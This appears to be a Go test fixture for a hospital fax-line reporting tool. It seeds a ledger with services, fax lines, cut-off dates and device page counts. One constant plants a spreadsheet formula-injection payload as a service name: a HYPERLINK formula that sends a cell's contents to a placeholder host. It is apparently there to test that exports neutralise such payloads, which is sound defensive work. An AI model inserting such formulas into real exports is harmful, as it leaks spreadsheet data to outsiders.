package report_test

import (
	"path/filepath"
	"testing"
	"time"

	"github.com/zerofax/zerofax/agent/wire"
	"github.com/zerofax/zerofax/collector/internal/ledger"
	"github.com/zerofax/zerofax/collector/internal/report"
)

// attack is a name that a spreadsheet would compute if it were stored as a formula.
const attack = `=HYPERLINK("http://example.invalid/?"&A1,"Oncologie")`

var by = ledger.Author{Who: "anne", Source: "test"}

// hospital is a ledger of some months in which the emergencies fax on after their cut-off, oncology was cut, the
// archives are kept, a line of nobody's was never read, and another hospital has a line of its own.
type hospital struct {
	*ledger.Ledger
	zone *time.Location
	now  time.Time
}

func newHospital(t *testing.T) *hospital {
	t.Helper()
	zone, err := time.LoadLocation("Europe/Paris")
	if err != nil {
		t.Fatal(err)
	}
	h := &hospital{zone: zone, now: time.Date(2026, 11, 10, 9, 0, 0, 0, zone)}
	h.Ledger, err = ledger.Open(t.Context(), filepath.Join(t.TempDir(), "ledger.db"), ledger.Options{Now: func() time.Time { return h.now }, Zone: zone})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { h.Close() })
	h.declare(t)
	h.read(t)
	return h
}

// read books what three machines tell each morning from August on: each day one sends 10 pages and gets 4, until
// the end of October; two send 2 and print 3.
func (h *hospital) read(t *testing.T) {
	t.Helper()
	var deliveries []ledger.Delivery
	first, end := time.Date(2026, 8, 1, 0, 0, 0, 0, h.zone), time.Date(2026, 10, 31, 6, 0, 0, 0, h.zone)
	busy, days := int64(0), int64(0)
	for at := first; !at.After(h.now); at = time.Date(2026, 8, 1+int(days), 6, 0, 0, 0, h.zone) {
		if !at.After(end) {
			busy = days
		}
		seq := uint64(days + 1)
		e := wire.Envelope{Header: wire.Header{Agent: "ps-01", Stream: "stream-01", First: seq, Seq: seq, Oldest: 1, SentAt: wire.TimeOf(at)}}
		e.Readings = []wire.Reading{
			reading("kyocera-1", at, map[wire.Measure]int64{wire.FaxSentPages: 100 + 10*busy, wire.FaxReceivedPages: 50 + 4*busy}),
			reading("xerox-2", at, map[wire.Measure]int64{wire.FaxSentPages: 2 * days, wire.FaxPrintedPages: 3 * days}),
			reading("canon-3", at, map[wire.Measure]int64{wire.FaxSentPages: 2 * days, wire.FaxPrintedPages: 3 * days}),
		}
		days++
		deliveries = append(deliveries, ledger.Delivery{Agent: "ps-01", Envelope: e, ReceivedAt: at})
	}
	if _, err := h.Apply(t.Context(), deliveries); err != nil {
		t.Fatal(err)
	}
}

func reading(device string, at time.Time, values map[wire.Measure]int64) wire.Reading {
	r := wire.Reading{
		Device: device, At: wire.TimeOf(at), OK: true, Profile: "kyocera", Fax: wire.Yes, FaxService: wire.ServiceReady,
		Identity: &wire.Identity{Vendor: "kyocera", Serial: device[len(device)-1:], Model: "M", Address: "10.0.0." + device[len(device)-1:]},
	}
	for _, m := range wire.Measures() {
		if value, told := values[m]; told {
			r.Counters = append(r.Counters, wire.Counter{Measure: m, Unit: "pages", Rule: string(m), Value: value})
		}
	}
	return r
}

func (h *hospital) declare(t *testing.T) {
	t.Helper()
	err := h.Declare(t.Context(), by, func(r ledger.Register) (ledger.Register, error) {
		r.Establishments["chu"] = ledger.Establishment{ID: "chu", Name: "CHU d’Angers"}
		r.Establishments["ch"] = ledger.Establishment{ID: "ch", Name: "CH de Cholet"}
		r.Poles["urg"] = ledger.Pole{ID: "urg", Establishment: "chu", Name: "Urgences"}
		for id, name := range map[string]string{"saas": "Accueil & soins urgents", "onco": attack, "archives": "Archives"} {
			r.Services[id] = ledger.Service{ID: id, Establishment: "chu", Name: name}
		}
		saas := r.Services["saas"]
		saas.Pole = "urg"
		r.Services["saas"] = saas
		r.Services["ped"] = ledger.Service{ID: "ped", Establishment: "ch", Name: "Pédiatrie"}
		for _, d := range []ledger.Declaration{
			{Line: "0241354000", Device: "kyocera-1", Place: ledger.Place{Service: "saas"}, Cutoff: "2026-10-21"},
			{Line: "0241354001", Device: "xerox-2", Place: ledger.Place{Service: "onco"}, Cutoff: "2026-09-01", CutOn: "2026-10-05"},
			{Line: "0241354002", Device: "canon-3", Place: ledger.Place{Service: "archives"}, KeptReason: "+33 d’astreinte", KeptUntil: "2026-11-01"},
			{Line: "0241354003", Device: "ricoh-4", Place: ledger.Place{Service: "archives"}, Cutoff: "2027-01-15"},
			{Line: "0241710000", Device: "ricoh-5", Place: ledger.Place{Service: "ped"}, Cutoff: "2026-12-01"},
		} {
			d.Number = d.Line
			r.Lines[d.Line] = []ledger.Declaration{d}
		}
		for indicator, value := range map[string]int64{"active_lines": 1, "fax_sent": 100, "mssante_sent": 500} {
			key := ledger.TargetKey{Indicator: indicator}
			r.Targets[key] = []ledger.Target{{Indicator: indicator, Value: value}}
		}
		return r, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sent := func(n int64) *int64 { return &n }
	err = h.DeclareVolumes(t.Context(), by, func(ledger.Register, []ledger.Volume) (all []ledger.Volume, _ error) {
		for month := ledger.Month(202605); month <= 202610; month++ {
			if month != 202608 { // nobody declared August
				all = append(all, ledger.Volume{Month: month, Establishment: "chu", Service: "saas", Sent: sent(100 * int64(month-202604)), Received: sent(7)})
			}
		}
		return all, nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// report is what the committee looks at.
func (h *hospital) report(t *testing.T, month ledger.Month, establishment string) report.Report {
	t.Helper()
	snapshot, err := h.Snapshot(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	books, err := report.Read(t.Context(), h, snapshot, month, establishment, h.zone)
	if err != nil {
		t.Fatal(err)
	}
	r, err := report.New(books, month, establishment)
	if err != nil {
		t.Fatal(err)
	}
	return r
}
